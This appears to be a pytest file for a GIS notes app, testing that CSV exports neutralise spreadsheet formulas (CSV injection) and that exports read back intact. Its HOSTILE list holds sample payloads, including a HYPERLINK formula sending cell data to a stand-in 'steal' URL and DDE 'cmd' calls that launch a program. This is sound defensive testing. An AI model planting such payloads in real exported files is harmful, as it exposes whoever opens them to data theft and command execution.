"""Notes exports are inert and read back: no CSV cell is a live spreadsheet formula (OWASP
CSV injection), and both exports open again through the app's own readers."""

from __future__ import annotations

import csv

import pytest

from yangpu_gis.model.io import read_file
from yangpu_gis.model.note_fields import EXPORT_COLUMNS
from yangpu_gis.model.notes import NoteStore
from yangpu_gis.model.notes_export import FORMULA_STARTS, inert_cell

HOSTILE = [
    '=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"Click")',
    "+SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1 % 2",
]


@pytest.fixture
def store():
    store = NoteStore()
    for i, text in enumerate(HOSTILE):
        store.add(text, "=author", 121.50 + i / 100, 31.30, category="+c", site_id="-s")
    store.add("绿地 stays as it is, 1+1", "李", -0.5, -1.25)  # numbers may start with "-"
    return store


def cells(path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_no_csv_cell_is_a_live_formula(store, tmp_path):
    store.export_csv(tmp_path / "notes.csv")
    rows = cells(tmp_path / "notes.csv")
    assert len(rows) == len(HOSTILE) + 1
    for row in rows:
        for column, value in row.items():
            if column in ("id", "lon", "lat"):
                float(value)  # a number, which a spreadsheet reads as a value
            else:
                assert not value.startswith(FORMULA_STARTS), (column, value)


def test_neutralised_cells_stay_readable(store, tmp_path):
    store.export_csv(tmp_path / "notes.csv")
    rows = cells(tmp_path / "notes.csv")
    assert [row["text"] for row in rows[: len(HOSTILE)]] == ["'" + text for text in HOSTILE]
    assert {row["author"] for row in rows[: len(HOSTILE)]} == {"'=author"}
    assert rows[0]["category"] == "'+c" and rows[0]["site_id"] == "'-s"
    assert rows[-1]["text"] == "绿地 stays as it is, 1+1" and rows[-1]["author"] == "李"
    assert (rows[-1]["lon"], rows[-1]["lat"]) == ("-0.5", "-1.25")


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1", "'=1"),
        ("\t=1", "'\t=1"),  # the store strips what planners type; other programs may not
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        (None, ""),
        (-2, -2),
        (-0.5, -0.5),
        ("a=1", "a=1"),
    ],
)
def test_inert_cell(value, cell):
    assert inert_cell(value) == cell


def test_the_csv_export_reads_back_as_the_notes(store, tmp_path):
    store.export_csv(tmp_path / "notes.csv")
    [layer] = read_file(tmp_path / "notes.csv")
    notes = store.list()
    assert len(layer.data) == len(notes)
    assert list(layer.data["id"]) == [n.id for n in notes]
    texts = list(layer.data["text"])
    assert texts[-1] == notes[-1].text
    assert [t.removeprefix("'") for t in texts[: len(HOSTILE)]] == HOSTILE
    points = layer.data.geometry
    assert [(round(p.x, 9), round(p.y, 9)) for p in points] == [(n.lon, n.lat) for n in notes]


def test_the_geojson_export_reads_back_exactly(store, tmp_path):
    store.export_geojson(tmp_path / "notes.geojson")
    [layer] = read_file(tmp_path / "notes.geojson")
    notes = store.list()
    assert list(layer.data["text"]) == [n.text for n in notes]  # GeoJSON is not a spreadsheet
    assert list(layer.data["author"]) == [n.author for n in notes]
    columns = set(EXPORT_COLUMNS) - {"id", "lon", "lat"}
    assert columns <= set(layer.data.columns)
    assert [(p.x, p.y) for p in layer.data.geometry] == [(n.lon, n.lat) for n in notes]
